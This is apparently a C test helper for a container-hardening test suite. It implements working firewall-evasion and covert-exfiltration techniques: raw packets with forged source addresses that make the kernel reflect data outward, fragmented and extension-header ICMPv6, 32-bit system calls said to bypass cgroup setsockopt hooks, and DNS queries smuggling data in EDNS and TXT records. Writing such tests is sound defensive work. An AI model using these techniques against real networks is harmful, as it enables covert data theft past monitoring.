/* nsattack: what root in a container does to get data past a firewall that watches only its
 * cgroup's sockets (issue 12), for integration/bats/hardening_netns.bats. Static; every
 * packet is built by hand so that its bytes are exactly what the test looks for.
 *
 *   nsattack echo SRC DST MARK         raw ICMP/ICMPv6 echo request from a forged SRC to DST
 *                                      (the container's own address): the kernel's echo reply
 *                                      carries MARK to SRC                       [CAP_NET_RAW]
 *   nsattack udp SRC DST PORT MARK     raw UDP from a forged SRC:53 to DST:PORT: a closed port
 *                                      makes the kernel quote it to SRC in an ICMP error; an
 *                                      open one receives a forged datagram       [CAP_NET_RAW]
 *   nsattack syn SRC DST PORT ACK      raw TCP SYN from a forged SRC to DST:PORT with seq ACK-1:
 *                                      the kernel's RST acknowledges ACK (hex)   [CAP_NET_RAW]
 *   nsattack echo-frag SRC DST MARK    the IPv4 echo request as two fragments   [CAP_NET_RAW]
 *   nsattack icmp6-ext SRC DST TYPE MARK dstopts|frag
 *                                      ICMPv6 of TYPE (e.g. 135) behind a Destination Options
 *                                      header, or as two fragments                [CAP_NET_RAW]
 *   nsattack join GROUP [SOURCE]       IP(V6)_ADD_MEMBERSHIP / ADD_SOURCE_MEMBERSHIP, then
 *                                      sleep 2 s: the kernel reports GROUP (and SOURCE)
 *   nsattack mcast-join GROUP [SOURCE] the same with MCAST_JOIN_GROUP / MCAST_JOIN_SOURCE_GROUP
 *   nsattack compat-join GROUP [SOURCE]
 *                                      the `join` calls as 32-bit system calls (int 0x80): the
 *                                      kernel runs no cgroup/setsockopt program for those
 *                                      (build with -static -no-pie: buffers below 4 GiB)
 *   nsattack bindtodev IFACE DST PORT MARK
 *                                      UDP with SO_BINDTODEVICE IFACE to DST (127.0.0.1, ::1)
 *   nsattack pktinfo IFACE DST PORT MARK
 *                                      UDP to DST with IP_PKTINFO/IPV6_PKTINFO naming IFACE
 *   nsattack dns-extra SERVER NAME MARK
 *                                      a UDP query for NAME (A) carrying MARK in an EDNS option
 *                                      (code 65001) and in an additional TXT record: data the
 *                                      client chose, riding a query for an allowed name
 *   nsattack listen ADDR PORT SECONDS  print every UDP datagram to ADDR:PORT ("got <src> <data>")
 *   nsattack listen-tcp ADDR PORT SECONDS
 *                                      accept (and close) TCP connections on ADDR:PORT
 *
 * Addresses may be IPv4 or IPv6 (both of one packet the same family). Prints "sent N bytes",
 * "joined", or "<step>: <strerror>". Exit 0 done, 2 refused/failed, 1 usage. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *step)
{
	printf("%s: %s\n", step, strerror(errno));
	return 2;
}

struct addr {
	int family;
	struct in_addr v4;
	struct in6_addr v6;
};

static int parse_addr(const char *s, struct addr *a)
{
	memset(a, 0, sizeof(*a));
	if (inet_pton(AF_INET, s, &a->v4) == 1) {
		a->family = AF_INET;
		return 0;
	}
	if (inet_pton(AF_INET6, s, &a->v6) == 1) {
		a->family = AF_INET6;
		return 0;
	}
	fprintf(stderr, "nsattack: bad address %s\n", s);
	exit(1);
}

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;
	for (; len > 1; len -= 2, p += 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* Transport checksum with the IPv4/IPv6 pseudo-header. */
static uint16_t l4_csum(const struct addr *src, const struct addr *dst, uint8_t proto, const void *l4, size_t len)
{
	uint32_t sum = 0;
	uint8_t tail[4] = {0, 0, 0, proto};
	if (src->family == AF_INET) {
		sum = sum16(&src->v4, 4, sum);
		sum = sum16(&dst->v4, 4, sum);
		sum += proto;
		sum += (uint32_t)len;
	} else {
		uint32_t l = htonl((uint32_t)len);
		sum = sum16(&src->v6, 16, sum);
		sum = sum16(&dst->v6, 16, sum);
		sum = sum16(&l, 4, sum);
		sum = sum16(tail, 4, sum);
	}
	return fold(sum16(l4, len, sum));
}

/* Sends an IP packet with a hand-made header around l4 (proto) from src to dst. For IPv4,
 * frag_word is the flags/fragment-offset field (host order; 0 for a whole packet). */
static int send_raw_frag(const struct addr *src, const struct addr *dst, uint8_t proto, const uint8_t *l4, size_t len,
			 uint16_t frag_word)
{
	uint8_t pkt[1500];
	size_t hl = src->family == AF_INET ? 20 : 40;
	int fd, on = 1;
	ssize_t n;

	if (len + hl > sizeof(pkt)) {
		fprintf(stderr, "nsattack: packet too long\n");
		exit(1);
	}
	memset(pkt, 0, hl);
	if (src->family == AF_INET) {
		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr = dst->v4};
		pkt[0] = 0x45;
		pkt[2] = (uint8_t)((hl + len) >> 8);
		pkt[3] = (uint8_t)(hl + len);
		pkt[4] = 0x43; /* id, the same for every fragment */
		pkt[5] = 0x47;
		pkt[6] = (uint8_t)(frag_word >> 8);
		pkt[7] = (uint8_t)frag_word;
		pkt[8] = 64;
		pkt[9] = proto;
		memcpy(pkt + 12, &src->v4, 4);
		memcpy(pkt + 16, &dst->v4, 4);
		uint16_t c = fold(sum16(pkt, 20, 0));
		memcpy(pkt + 10, &c, 2);
		memcpy(pkt + hl, l4, len);
		fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
		if (fd < 0)
			return fail("socket(AF_INET, SOCK_RAW)");
		if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) < 0)
			return fail("IP_HDRINCL");
		n = sendto(fd, pkt, hl + len, 0, (struct sockaddr *)&sa, sizeof(sa));
	} else {
		struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_addr = dst->v6};
		pkt[0] = 0x60;
		pkt[4] = (uint8_t)(len >> 8);
		pkt[5] = (uint8_t)len;
		pkt[6] = proto;
		pkt[7] = 64;
		memcpy(pkt + 8, &src->v6, 16);
		memcpy(pkt + 24, &dst->v6, 16);
		memcpy(pkt + hl, l4, len);
		/* IPPROTO_RAW on AF_INET6: the caller supplies the IPv6 header (IPV6_HDRINCL). */
		fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
		if (fd < 0)
			return fail("socket(AF_INET6, SOCK_RAW, IPPROTO_RAW)");
		n = sendto(fd, pkt, hl + len, 0, (struct sockaddr *)&sa, sizeof(sa));
	}
	if (n < 0)
		return fail("sendto");
	printf("sent %zd bytes\n", n);
	return 0;
}

static int send_raw(const struct addr *src, const struct addr *dst, uint8_t proto, const uint8_t *l4, size_t len)
{
	return send_raw_frag(src, dst, proto, l4, len, 0);
}

/* The echo request of cmd_echo (IPv4) in two fragments: 16 bytes, then the rest. */
static int cmd_echo_frag(const char *s, const char *d, const char *mark)
{
	struct addr src, dst;
	uint8_t msg[512] = {0};
	size_t ml = strlen(mark), len = 8 + ml;
	parse_addr(s, &src);
	parse_addr(d, &dst);
	if (src.family != AF_INET || len <= 16 || len > sizeof(msg))
		exit(1);
	msg[0] = 8;
	msg[4] = 0x12;
	msg[7] = 1;
	memcpy(msg + 8, mark, ml);
	uint16_t c = fold(sum16(msg, len, 0));
	memcpy(msg + 2, &c, 2);
	int r = send_raw_frag(&src, &dst, IPPROTO_ICMP, msg, 16, 0x2000 /* MF, offset 0 */);
	if (r)
		return r;
	return send_raw_frag(&src, &dst, IPPROTO_ICMP, msg + 16, len - 16, 16 / 8 /* offset 2 units */);
}

/* An ICMPv6 message of TYPE behind a Destination Options header, or split in two fragments. */
static int cmd_icmp6_ext(const char *s, const char *d, const char *type, const char *mark, const char *how)
{
	struct addr src, dst;
	uint8_t icmp[512] = {0}, pkt[600] = {0};
	size_t ml = strlen(mark), len = 8 + ml;
	parse_addr(s, &src);
	parse_addr(d, &dst);
	if (src.family != AF_INET6 || len > sizeof(icmp) || len <= 16)
		exit(1);
	icmp[0] = (uint8_t)atoi(type);
	memcpy(icmp + 8, mark, ml);
	uint16_t c = l4_csum(&src, &dst, IPPROTO_ICMPV6, icmp, len);
	memcpy(icmp + 2, &c, 2);
	if (!strcmp(how, "dstopts")) {
		pkt[0] = IPPROTO_ICMPV6; /* next header */
		pkt[1] = 0;              /* 8 bytes */
		pkt[2] = 1;              /* PadN, 4 bytes of padding */
		pkt[3] = 4;
		memcpy(pkt + 8, icmp, len);
		return send_raw(&src, &dst, 60 /* IPPROTO_DSTOPTS */, pkt, 8 + len);
	}
	/* Fragment header: next header, reserved, offset/flags, id; first 16 bytes, then the rest. */
	uint8_t f[8 + 512];
	f[0] = IPPROTO_ICMPV6;
	f[1] = 0;
	f[2] = 0;
	f[3] = 1; /* offset 0, M */
	f[4] = 0x43; f[5] = 0x47; f[6] = 0x46; f[7] = 0x57;
	memcpy(f + 8, icmp, 16);
	int r = send_raw(&src, &dst, 44 /* IPPROTO_FRAGMENT */, f, 24);
	if (r)
		return r;
	f[2] = 0;
	f[3] = 16; /* offset 16 bytes (2 units << 3), no M */
	memcpy(f + 8, icmp + 16, len - 16);
	return send_raw(&src, &dst, 44, f, 8 + len - 16);
}

static int cmd_echo(const char *s, const char *d, const char *mark)
{
	struct addr src, dst;
	uint8_t msg[512] = {0};
	size_t ml = strlen(mark), len = 8 + ml;
	parse_addr(s, &src);
	parse_addr(d, &dst);
	if (len > sizeof(msg))
		exit(1);
	msg[0] = src.family == AF_INET ? 8 : 128; /* echo request */
	msg[4] = 0x12;
	msg[6] = 0;
	msg[7] = 1;
	memcpy(msg + 8, mark, ml);
	uint16_t c = src.family == AF_INET ? fold(sum16(msg, len, 0)) : l4_csum(&src, &dst, IPPROTO_ICMPV6, msg, len);
	memcpy(msg + 2, &c, 2);
	return send_raw(&src, &dst, src.family == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6, msg, len);
}

static int cmd_udp(const char *s, const char *d, const char *port, const char *mark)
{
	struct addr src, dst;
	uint8_t msg[512] = {0};
	size_t ml = strlen(mark), len = 8 + ml;
	uint16_t sp = htons(53), dp = htons((uint16_t)atoi(port)), l = htons((uint16_t)len);
	parse_addr(s, &src);
	parse_addr(d, &dst);
	if (len > sizeof(msg))
		exit(1);
	memcpy(msg, &sp, 2);
	memcpy(msg + 2, &dp, 2);
	memcpy(msg + 4, &l, 2);
	memcpy(msg + 8, mark, ml);
	uint16_t c = l4_csum(&src, &dst, IPPROTO_UDP, msg, len);
	memcpy(msg + 6, &c, 2);
	return send_raw(&src, &dst, IPPROTO_UDP, msg, len);
}

static int cmd_syn(const char *s, const char *d, const char *port, const char *ack_hex)
{
	struct addr src, dst;
	uint8_t msg[20] = {0};
	uint16_t sp = htons(40000), dp = htons((uint16_t)atoi(port));
	uint32_t seq = htonl((uint32_t)strtoul(ack_hex, NULL, 16) - 1);
	parse_addr(s, &src);
	parse_addr(d, &dst);
	memcpy(msg, &sp, 2);
	memcpy(msg + 2, &dp, 2);
	memcpy(msg + 4, &seq, 4);
	msg[12] = 5 << 4;
	msg[13] = 0x02; /* SYN */
	msg[14] = 0xff;
	msg[15] = 0xff;
	uint16_t c = l4_csum(&src, &dst, IPPROTO_TCP, msg, sizeof(msg));
	memcpy(msg + 16, &c, 2);
	return send_raw(&src, &dst, IPPROTO_TCP, msg, sizeof(msg));
}

static void sockaddr_of(const struct addr *a, struct sockaddr_storage *ss)
{
	memset(ss, 0, sizeof(*ss));
	if (a->family == AF_INET) {
		struct sockaddr_in *s = (struct sockaddr_in *)ss;
		s->sin_family = AF_INET;
		s->sin_addr = a->v4;
	} else {
		struct sockaddr_in6 *s = (struct sockaddr_in6 *)ss;
		s->sin6_family = AF_INET6;
		s->sin6_addr = a->v6;
	}
}

#define NR32_SETSOCKOPT 366 /* i386 */

/* setsockopt as an i386 system call from this 64-bit process; -errno on failure. */
static long setsockopt32(int fd, int level, int name, const void *buf, int len)
{
	long ret;
	if ((unsigned long)buf >> 32) {
		fprintf(stderr, "nsattack: buffer above 4 GiB (build with -no-pie)\n");
		exit(1);
	}
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"((long)NR32_SETSOCKOPT), "b"((long)fd), "c"((long)level), "d"((long)name),
			   "S"((long)buf), "D"((long)len)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

/* Static: a non-PIE binary keeps them below 4 GiB, where a 32-bit call can point. */
static struct ip_mreq_source compat_m4s;
static struct ip_mreq compat_m4;
static struct ipv6_mreq compat_m6;

/* Joins and holds the membership 2 s, time for the kernel's unsolicited reports.
 * mcast_api: 1 MCAST_* calls, 2 the classic calls as 32-bit system calls. */
static int cmd_join(const char *g, const char *srcs, int mcast_api)
{
	struct addr group, source;
	int fd, r, level;
	parse_addr(g, &group);
	if (srcs)
		parse_addr(srcs, &source);
	level = group.family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
	fd = socket(group.family, SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket");
	if (mcast_api == 2) {
		long c;
		if (group.family == AF_INET && srcs) {
			compat_m4s.imr_multiaddr = group.v4;
			compat_m4s.imr_sourceaddr = source.v4;
			c = setsockopt32(fd, IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP, &compat_m4s, sizeof(compat_m4s));
		} else if (group.family == AF_INET) {
			compat_m4.imr_multiaddr = group.v4;
			c = setsockopt32(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &compat_m4, sizeof(compat_m4));
		} else {
			compat_m6.ipv6mr_multiaddr = group.v6;
			c = setsockopt32(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &compat_m6, sizeof(compat_m6));
		}
		if (c < 0)
			errno = (int)-c;
		r = c < 0 ? -1 : 0;
	} else if (mcast_api) {
		if (srcs) {
			struct group_source_req req = {0};
			sockaddr_of(&group, &req.gsr_group);
			sockaddr_of(&source, &req.gsr_source);
			r = setsockopt(fd, level, MCAST_JOIN_SOURCE_GROUP, &req, sizeof(req));
		} else {
			struct group_req req = {0};
			sockaddr_of(&group, &req.gr_group);
			r = setsockopt(fd, level, MCAST_JOIN_GROUP, &req, sizeof(req));
		}
	} else if (group.family == AF_INET) {
		if (srcs) {
			struct ip_mreq_source m = {.imr_multiaddr = group.v4, .imr_sourceaddr = source.v4};
			r = setsockopt(fd, IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP, &m, sizeof(m));
		} else {
			struct ip_mreq m = {.imr_multiaddr = group.v4};
			r = setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof(m));
		}
	} else {
		struct ipv6_mreq m = {.ipv6mr_multiaddr = group.v6};
		r = setsockopt(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof(m));
	}
	if (r < 0)
		return fail("join");
	printf("joined\n");
	fflush(stdout);
	sleep(2);
	return 0;
}

static int udp_to(const char *iface, const char *d, const char *port, const char *mark, int pktinfo)
{
	struct addr dst;
	struct sockaddr_storage ss;
	socklen_t sl;
	int fd;
	ssize_t n;
	unsigned idx = if_nametoindex(iface);
	parse_addr(d, &dst);
	if (!idx)
		return fail("if_nametoindex");
	sockaddr_of(&dst, &ss);
	if (dst.family == AF_INET) {
		((struct sockaddr_in *)&ss)->sin_port = htons((uint16_t)atoi(port));
		sl = sizeof(struct sockaddr_in);
	} else {
		((struct sockaddr_in6 *)&ss)->sin6_port = htons((uint16_t)atoi(port));
		sl = sizeof(struct sockaddr_in6);
	}
	fd = socket(dst.family, SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket");
	if (!pktinfo) {
		if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, iface, (socklen_t)strlen(iface)) < 0)
			return fail("SO_BINDTODEVICE");
		n = sendto(fd, mark, strlen(mark), 0, (struct sockaddr *)&ss, sl);
	} else {
		char cbuf[CMSG_SPACE(sizeof(struct in6_pktinfo))] = {0};
		struct iovec iov = {.iov_base = (void *)mark, .iov_len = strlen(mark)};
		struct msghdr mh = {.msg_name = &ss, .msg_namelen = sl, .msg_iov = &iov, .msg_iovlen = 1,
				    .msg_control = cbuf};
		struct cmsghdr *cm = (struct cmsghdr *)cbuf;
		if (dst.family == AF_INET) {
			struct in_pktinfo pi = {.ipi_ifindex = (int)idx};
			cm->cmsg_level = IPPROTO_IP;
			cm->cmsg_type = IP_PKTINFO;
			cm->cmsg_len = CMSG_LEN(sizeof(pi));
			memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
			mh.msg_controllen = CMSG_SPACE(sizeof(pi));
		} else {
			struct in6_pktinfo pi = {.ipi6_ifindex = idx};
			cm->cmsg_level = IPPROTO_IPV6;
			cm->cmsg_type = IPV6_PKTINFO;
			cm->cmsg_len = CMSG_LEN(sizeof(pi));
			memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
			mh.msg_controllen = CMSG_SPACE(sizeof(pi));
		}
		n = sendmsg(fd, &mh, 0);
	}
	if (n < 0)
		return fail("send");
	printf("sent %zd bytes\n", n);
	return 0;
}

static int cmd_dns_extra(const char *server, const char *name, const char *mark)
{
	uint8_t q[1500];
	size_t n = 0, ml = strlen(mark);
	struct addr a;
	struct sockaddr_storage ss;
	socklen_t sl;
	const char *p = name;
	if (ml > 255 || strlen(name) > 200)
		exit(1);
	parse_addr(server, &a);
	uint8_t hdr[12] = {0x43, 0x47, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 2}; /* RD, 1 question, 2 additional */
	memcpy(q, hdr, 12);
	n = 12;
	while (*p) {
		const char *d = strchr(p, '.');
		size_t l = d ? (size_t)(d - p) : strlen(p);
		q[n++] = (uint8_t)l;
		memcpy(q + n, p, l);
		n += l;
		p += l + (d ? 1 : 0);
	}
	q[n++] = 0;
	q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1; /* A IN */
	/* OPT: root, type 41, payload 1232, rcode/flags 0, option 65001 = MARK */
	uint8_t opt[11] = {0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0, (uint8_t)((ml + 4) >> 8), (uint8_t)(ml + 4)};
	memcpy(q + n, opt, 11);
	n += 11;
	q[n++] = 0xfd; q[n++] = 0xe9; q[n++] = (uint8_t)(ml >> 8); q[n++] = (uint8_t)ml;
	memcpy(q + n, mark, ml);
	n += ml;
	/* TXT ".", IN, TTL 0, rdata <len>MARK */
	uint8_t txt[11] = {0, 0, 16, 0, 1, 0, 0, 0, 0, (uint8_t)((ml + 1) >> 8), (uint8_t)(ml + 1)};
	memcpy(q + n, txt, 11);
	n += 11;
	q[n++] = (uint8_t)ml;
	memcpy(q + n, mark, ml);
	n += ml;
	sockaddr_of(&a, &ss);
	if (a.family == AF_INET) {
		((struct sockaddr_in *)&ss)->sin_port = htons(53);
		sl = sizeof(struct sockaddr_in);
	} else {
		((struct sockaddr_in6 *)&ss)->sin6_port = htons(53);
		sl = sizeof(struct sockaddr_in6);
	}
	int fd = socket(a.family, SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket");
	if (sendto(fd, q, n, 0, (struct sockaddr *)&ss, sl) < 0)
		return fail("sendto");
	struct pollfd pf = {.fd = fd, .events = POLLIN};
	if (poll(&pf, 1, 3000) <= 0) {
		printf("no answer\n");
		return 2;
	}
	uint8_t ans[4096];
	ssize_t r = recv(fd, ans, sizeof(ans), 0);
	if (r < 12) {
		printf("short answer\n");
		return 2;
	}
	printf("rcode %d answers %d\n", ans[3] & 15, ans[6] << 8 | ans[7]);
	return 0;
}

static int cmd_listen(const char *a, const char *port, const char *secs, int tcp)
{
	struct addr addr;
	struct sockaddr_storage ss, from;
	socklen_t sl, fl;
	int fd, one = 1;
	char buf[2048], host[INET6_ADDRSTRLEN];
	time_t end = time(NULL) + atoi(secs);
	parse_addr(a, &addr);
	sockaddr_of(&addr, &ss);
	if (addr.family == AF_INET) {
		((struct sockaddr_in *)&ss)->sin_port = htons((uint16_t)atoi(port));
		sl = sizeof(struct sockaddr_in);
	} else {
		((struct sockaddr_in6 *)&ss)->sin6_port = htons((uint16_t)atoi(port));
		sl = sizeof(struct sockaddr_in6);
	}
	fd = socket(addr.family, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket");
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&ss, sl) < 0)
		return fail("bind");
	if (tcp && listen(fd, 16) < 0)
		return fail("listen");
	printf("listening\n");
	fflush(stdout);
	while (time(NULL) < end) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (poll(&p, 1, 200) <= 0)
			continue;
		fl = sizeof(from);
		if (tcp) {
			int conn = accept(fd, (struct sockaddr *)&from, &fl);
			if (conn >= 0)
				close(conn);
			continue;
		}
		ssize_t n = recvfrom(fd, buf, sizeof(buf) - 1, 0, (struct sockaddr *)&from, &fl);
		if (n < 0)
			continue;
		buf[n] = 0;
		if (from.ss_family == AF_INET)
			inet_ntop(AF_INET, &((struct sockaddr_in *)&from)->sin_addr, host, sizeof(host));
		else
			inet_ntop(AF_INET6, &((struct sockaddr_in6 *)&from)->sin6_addr, host, sizeof(host));
		printf("got %s %s\n", host, buf);
		fflush(stdout);
	}
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 5 && !strcmp(argv[1], "echo"))
		return cmd_echo(argv[2], argv[3], argv[4]);
	if (argc == 5 && !strcmp(argv[1], "echo-frag"))
		return cmd_echo_frag(argv[2], argv[3], argv[4]);
	if (argc == 7 && !strcmp(argv[1], "icmp6-ext"))
		return cmd_icmp6_ext(argv[2], argv[3], argv[4], argv[5], argv[6]);
	if (argc == 6 && !strcmp(argv[1], "udp"))
		return cmd_udp(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 6 && !strcmp(argv[1], "syn"))
		return cmd_syn(argv[2], argv[3], argv[4], argv[5]);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "join"))
		return cmd_join(argv[2], argc == 4 ? argv[3] : NULL, 0);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "mcast-join"))
		return cmd_join(argv[2], argc == 4 ? argv[3] : NULL, 1);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "compat-join"))
		return cmd_join(argv[2], argc == 4 ? argv[3] : NULL, 2);
	if (argc == 6 && !strcmp(argv[1], "bindtodev"))
		return udp_to(argv[2], argv[3], argv[4], argv[5], 0);
	if (argc == 6 && !strcmp(argv[1], "pktinfo"))
		return udp_to(argv[2], argv[3], argv[4], argv[5], 1);
	if (argc == 5 && !strcmp(argv[1], "dns-extra"))
		return cmd_dns_extra(argv[2], argv[3], argv[4]);
	if (argc == 5 && !strcmp(argv[1], "listen"))
		return cmd_listen(argv[2], argv[3], argv[4], 0);
	if (argc == 5 && !strcmp(argv[1], "listen-tcp"))
		return cmd_listen(argv[2], argv[3], argv[4], 1);
	fprintf(stderr, "usage: see the comment at the top of nsattack.c\n");
	return 1;
}
